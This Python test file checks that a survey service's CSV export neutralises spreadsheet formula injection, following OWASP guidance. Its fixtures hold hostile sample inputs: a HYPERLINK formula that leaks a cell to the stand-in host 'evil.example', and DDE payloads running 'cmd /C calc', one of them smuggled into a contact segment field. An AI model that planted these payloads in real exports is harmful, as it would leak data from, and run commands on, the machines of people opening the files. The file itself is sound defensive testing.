"""GET /v1/responses?format=csv opens safely in a spreadsheet: customers' comments (and
fields from events) that start like a formula (=HYPERLINK(...), +, -, @, TAB, CR) get a
leading single quote (OWASP "CSV Injection"), every text cell is quoted, and a comment
with commas, quotes or line breaks stays one cell. They used to be exported as live
formulas."""
import calendar
import csv
import io
import time
import urllib.error
import urllib.parse
import urllib.request

from harness import answer_url, check, run

COMMENTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your reward")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    'Hyvä palvelu, "kiitos"\nToinen rivi',
]


def epoch(iso):
    return calendar.timegm(time.strptime(iso, "%Y-%m-%dT%H:%M:%SZ"))


def answer(url, score, comment):
    body = urllib.parse.urlencode({"score": score, "comment": comment}).encode()
    req = urllib.request.Request(url, data=body, method="POST",
                                 headers={"Content-Type": "application/x-www-form-urlencoded"})
    with urllib.request.urlopen(req, timeout=10) as res:
        return res.status


def test(make_daemon, workdir):
    d = make_daemon(now="2026-11-16T10:00:00+02:00").start()
    surveys = []
    for i, _ in enumerate(COMMENTS):
        segment = "=cmd|' /C calc'!A0" if i == 0 else "retail"
        status, body = d.event({"id": f"w{i}", "type": "deal.won",
                                "contact": {"email": f"c{i}@example.com", "segment": segment}})
        check(status == 202 and body["scheduled"], f"event {i}: {status} {body}")
        surveys.append(body["scheduled"][0])
    d.advance("2d")
    d.wait_outbox(lambda m: m["kind"] == "survey" and m["state"] == "sent" and m["to"] == "c6@example.com",
                  "the survey emails")
    for survey, comment in zip(surveys, COMMENTS):
        check(answer(answer_url(d, survey["id"], epoch(survey["expires_at"])), 9, comment) == 200,
              f"answer {survey['id']}")

    status, text = d.request("GET", "/v1/responses?format=csv")
    check(status == 200, f"csv: {status}")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    check(len(rows) == len(COMMENTS), f"{len(rows)} rows: {text}")
    by_id = {int(r["survey_id"]): r for r in rows}
    for survey, comment in zip(surveys, COMMENTS):
        got = by_id[survey["id"]]["comment"]
        # The answer form trims surrounding white space, as for any comment.
        sent = comment.strip(" \t\r\n")
        if sent[:1] in ("=", "+", "-", "@", "\t", "\r"):
            check(got == "'" + sent, f"neutralised: {got!r} for {sent!r}")
        else:
            check(got == sent, f"kept as it was: {got!r}")
    check(by_id[surveys[0]["id"]]["segment"] == "'=cmd|' /C calc'!A0", f"segment: {by_id[surveys[0]['id']]}")
    check(by_id[surveys[1]["id"]]["segment"] == "retail", "an ordinary segment")
    # No cell of the export starts a formula.
    for r in rows:
        for key, value in r.items():
            check(value[:1] not in ("=", "+", "@", "\t", "\r") and not (value[:1] == "-" and key != "scale"),
                  f"{key} starts a formula: {value!r}")


run(test)
